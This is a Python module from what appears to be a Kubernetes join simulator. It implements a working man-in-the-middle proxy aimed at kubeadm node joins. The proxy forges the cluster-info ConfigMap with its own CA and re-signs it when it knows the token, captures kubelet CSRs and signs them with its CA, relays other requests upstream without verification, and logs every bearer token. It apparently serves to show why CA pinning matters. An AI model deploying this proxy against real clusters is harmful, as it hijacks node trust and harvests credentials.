"""Stand between a joining node and its API server: a TLS-terminating proxy with its own CA (``joinsim mitm``).

How this works: the proxy listens with a serving certificate from a CA of its
own (named ``kubernetes``, like kubeadm's). Every request is answered in one
of three ways. ``GET kube-public/cluster-info`` is fetched from the upstream
and rewritten (``mitm_rewrite``): the proxy's CA and address go in, and the
JWS is re-signed when the proxy knows the token. The kubelet's CSRs, and
anything sent with a client certificate (which only the proxy can have
issued), are kept and answered by the proxy (``mitm_capture``). The rest
(anonymous and bearer-token reads such as kubeadm-config) is forwarded to the
upstream unchanged and streamed back, and every bearer token that passes is
recorded. An unpinned join through the proxy therefore succeeds and ends up
trusting the proxy's CA; a pinned one fails kubeadm's pin check; without the
token the forged cluster-info fails the JWS check.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import json
import ssl
import sys
from dataclasses import dataclass, field
from datetime import datetime, timezone
from typing import Any, AsyncIterator, Callable

import aiohttp
from aiohttp import web
from yarl import URL

from sim.control import status
from sim.emulate import wire
from sim.emulate.listen import advertised_host, listen_socket
from sim.emulate.mitm_capture import CSR_COLLECTION, Capture
from sim.emulate.mitm_rewrite import Signatures, rewrite_cluster_info
from sim.emulate.transport import load_client_identity
from sim.protocol import pins, pki
from sim.protocol.constants import CLUSTER_INFO_NAME, CLUSTER_INFO_NAMESPACE

__all__ = ["MitmOptions", "MitmProxy", "running_mitm"]

CLUSTER_INFO_PATH = f"/api/v1/namespaces/{CLUSTER_INFO_NAMESPACE}/configmaps/{CLUSTER_INFO_NAME}"
# RFC 9110 section 7.6.1 connection-specific fields, plus the ones aiohttp recomputes.
_HOP_BY_HOP = frozenset({"connection", "keep-alive", "proxy-authenticate", "proxy-authorization", "te", "trailer",
                         "transfer-encoding", "upgrade", "host", "content-length"})
UPSTREAM_CONNECT_TIMEOUT = 10.0
"""Seconds to reach the upstream; a forwarded answer itself may stream for as long as it lasts (watches)."""


@dataclass(slots=True, kw_only=True)
class MitmOptions:
    """Say where the proxy listens, whom it impersonates and what it knows; defaults are the command line's."""

    listen_host: str
    listen_port: int
    upstream: str
    """``host:port`` of the real API server."""
    token: str | None = None
    """The bootstrap token, if the attacker knows it: cluster-info is then re-signed with it."""
    signatures: Signatures = Signatures.REPLAY
    ca_key_type: str = "rsa"
    log: Callable[[str], None] | None = None
    verbose: bool = False
    """Log every request, not only what the attacker learns."""


@dataclass(slots=True)
class MitmProxy:
    """Run the proxy on an asyncio loop; ``start``, then ``stop`` (see the module docstring)."""

    options: MitmOptions
    endpoint: str = ""
    capture: Capture | None = None
    tokens_seen: list[str] = field(default_factory=list)
    """Every distinct bearer token a client sent through the proxy, in order."""
    requests: list[tuple[str, str, str]] = field(default_factory=list)
    """Every request: (method, path, "rewritten" | "captured" | "forwarded")."""
    _runner: web.AppRunner | None = None
    _session: aiohttp.ClientSession | None = None

    @property
    def ca(self) -> pki.CertKey:
        """Return the proxy's CA."""
        assert self.capture is not None
        return self.capture.ca

    @property
    def ca_pin(self) -> str:
        """Return the SPKI pin of the proxy's CA (what a victim's cluster-info now carries)."""
        return pins.certificate_pin(self.ca.cert)

    async def start(self) -> None:
        """Bind, make the CA and serving certificate for the real address, and start serving."""
        sock = listen_socket(self.options.listen_host, self.options.listen_port, 128)
        try:
            host = advertised_host(self.options.listen_host)
            self.endpoint = f"{host}:{sock.getsockname()[1]}"
            now = datetime.now(timezone.utc)
            ca = pki.create_ca(now=now, key_type=self.options.ca_key_type)
            self.capture = Capture(ca=ca)
            names, ips = _sans(host.strip("[]"))
            serving = pki.create_serving_cert(ca, common_name="kube-apiserver", dns_names=names, ip_addresses=ips,
                                              now=now, key_type=self.options.ca_key_type)
            timeout = aiohttp.ClientTimeout(total=None, connect=UPSTREAM_CONNECT_TIMEOUT)
            self._session = aiohttp.ClientSession(timeout=timeout, auto_decompress=False,
                                                  skip_auto_headers=("User-Agent",))
            app = web.Application(client_max_size=0)
            app.router.add_route("*", "/{tail:.*}", self._handle)
            self._runner = web.AppRunner(app, handle_signals=False, access_log=None, shutdown_timeout=1.0)
            await self._runner.setup()
            await web.SockSite(self._runner, sock, ssl_context=_server_context(serving, ca)).start()
        except BaseException:
            sock.close()
            await self.stop()
            raise

    async def stop(self) -> None:
        """Stop listening and close the upstream connections."""
        if self._runner is not None:
            await self._runner.cleanup()
            self._runner = None
        if self._session is not None:
            await self._session.close()
            self._session = None

    def _log(self, line: str) -> None:
        if self.options.log is not None:
            self.options.log(f"[mitm] {line}")

    def _note(self, request: web.Request, how: str) -> None:
        """Record how a request was answered ("rewritten", "captured" or "forwarded")."""
        self.requests.append((request.method, request.path, how))
        if self.options.verbose:
            self._log(f"{how}: {request.method} {request.path_qs}")

    async def _handle(self, request: web.Request) -> web.StreamResponse:
        """Rewrite, capture or forward one request; failures are Status answers, never a dropped connection."""
        try:
            body, too_large = await wire.read_body(request)
            if too_large:
                refused = status.too_large()
                return _answer(refused.code, refused.status, close=True)
            bearer = _bearer(request.headers.get("Authorization", ""))
            if bearer and bearer not in self.tokens_seen:
                self.tokens_seen.append(bearer)
                self._log(f"saw bearer token {bearer} ({request.method} {request.path})")
            if request.path == CLUSTER_INFO_PATH and request.method == "GET" and "watch" not in request.query:
                return await self._cluster_info(request)
            if request.path.startswith(CSR_COLLECTION) or _client_certificate(request):
                return self._captured(request, body, bearer)
            self._note(request, "forwarded")
            return await self._forward(request, body)
        except (asyncio.CancelledError, ConnectionError):
            raise
        except Exception as exc:  # noqa: BLE001 - answer 500 instead of dropping the connection
            print(f"joinsim mitm: internal error: {type(exc).__name__}: {exc}", file=sys.stderr)
            return wire.error_response(exc)

    async def _cluster_info(self, request: web.Request) -> web.StreamResponse:
        """Fetch cluster-info upstream and hand out the forged copy."""
        headers = _forwarded_headers(request, drop=("accept-encoding",))
        try:
            async with self._upstream(request, b"", headers) as upstream:
                data = await upstream.read()
                code, content_type = upstream.status, upstream.headers.get("Content-Type", "")
        except (aiohttp.ClientError, OSError, asyncio.TimeoutError) as err:
            return self._unreachable(err)
        if code != 200 or "json" not in content_type:
            self._note(request, "forwarded")
            return web.Response(status=code, body=data, headers={"Content-Type": content_type or "text/plain"})
        forged = rewrite_cluster_info(json.loads(data), server=f"https://{self.endpoint}", ca_pem=self.ca.cert_pem,
                                      token=self.options.token, signatures=self.options.signatures)
        self._note(request, "rewritten")
        self._log(f"served a forged cluster-info ({forged.summary}) to {request.remote}")
        return _answer(200, forged.configmap)

    def _captured(self, request: web.Request, body: bytes, bearer: str) -> web.Response:
        """Answer a CSR or a certificate-authenticated request from the proxy's own state."""
        assert self.capture is not None
        now = datetime.now(timezone.utc)
        before = len(self.capture.captured)
        if request.path.startswith(CSR_COLLECTION):
            code, answer = self.capture.csr_request(request.method, request.path, body, bearer, now)
        else:
            code, answer = self.capture.node_request(request.method, request.path, body, now)
        self._note(request, "captured")
        for csr in self.capture.captured[before:]:
            self._log(f"captured CSR {csr.name} ({csr.subject}) and signed it with the proxy's CA")
        return _answer(code, answer)

    @contextlib.asynccontextmanager
    async def _upstream(self, request: web.Request, body: bytes,
                        headers: dict[str, str]) -> AsyncIterator[aiohttp.ClientResponse]:
        """Send the request on to the real API server (whose certificate the attacker does not need to trust)."""
        assert self._session is not None
        url = URL(f"https://{self.options.upstream}{request.raw_path}", encoded=True)
        async with self._session.request(request.method, url, data=body or None, headers=headers, ssl=False,
                                         allow_redirects=False) as response:
            yield response

    async def _forward(self, request: web.Request, body: bytes) -> web.StreamResponse:
        """Relay a request and stream the answer back (watches included)."""
        try:
            async with self._upstream(request, body, _forwarded_headers(request)) as upstream:
                headers = {k: v for k, v in upstream.headers.items() if k.lower() not in _HOP_BY_HOP}
                out = web.StreamResponse(status=upstream.status, reason=upstream.reason, headers=headers)
                if upstream.headers.get("Content-Length") is not None:
                    out.content_length = int(upstream.headers["Content-Length"])
                await out.prepare(request)
                async for chunk in upstream.content.iter_any():
                    await out.write(chunk)
                await out.write_eof()
                return out
        except (aiohttp.ClientError, OSError, asyncio.TimeoutError) as err:
            return self._unreachable(err)

    def _unreachable(self, err: BaseException) -> web.Response:
        """Answer 503 when the upstream cannot be reached, as kube-apiserver's proxy handlers do."""
        message = f"error trying to reach service: {err or type(err).__name__}"
        self._log(f"upstream {self.options.upstream} unreachable: {err or type(err).__name__}")
        return _answer(503, status.status(503, "ServiceUnavailable", message))


def _sans(host: str) -> tuple[list[str], list[str]]:
    """Return the serving certificate's SANs: the listen host plus loopback names, as ``joinsim serve`` has."""
    ips, names = ["127.0.0.1"], ["localhost"]
    try:
        ipaddress.ip_address(host)
        ips.insert(0, host)
    except ValueError:
        names.insert(0, host)
    return names, ips


def _server_context(serving: pki.CertKey, ca: pki.CertKey) -> ssl.SSLContext:
    """Serve the proxy's certificate and ask for client certificates of its own CA (optional)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.minimum_version = ssl.TLSVersion.TLSv1_2
    load_client_identity(context, serving.cert_pem, serving.key_pem)
    context.load_verify_locations(cadata=ca.cert_pem.decode())
    context.verify_mode = ssl.CERT_OPTIONAL
    context.set_alpn_protocols(["http/1.1"])
    return context


def _client_certificate(request: web.Request) -> bool:
    """Tell whether the client presented a certificate (one the proxy's CA issued, or the handshake would fail)."""
    ssl_object = request.transport.get_extra_info("ssl_object") if request.transport is not None else None
    return bool(ssl_object is not None and ssl_object.getpeercert(binary_form=True))


def _bearer(authorization: str) -> str:
    scheme, _, value = authorization.partition(" ")
    return value.strip() if scheme.lower() == "bearer" else ""


def _forwarded_headers(request: web.Request, drop: tuple[str, ...] = ()) -> dict[str, str]:
    return {k: v for k, v in request.headers.items() if k.lower() not in _HOP_BY_HOP and k.lower() not in drop}


def _answer(code: int, body: dict[str, Any], *, close: bool = False) -> web.Response:
    response = web.Response(status=code, body=json.dumps(body, separators=(",", ":")).encode(),
                            headers={"Content-Type": "application/json"})
    if close:
        response.force_close()
    return response


@contextlib.asynccontextmanager
async def running_mitm(options: MitmOptions) -> AsyncIterator[MitmProxy]:
    """Run a proxy for the body of an ``async with``, then stop it."""
    proxy = MitmProxy(options)
    await proxy.start()
    try:
        yield proxy
    finally:
        await proxy.stop()
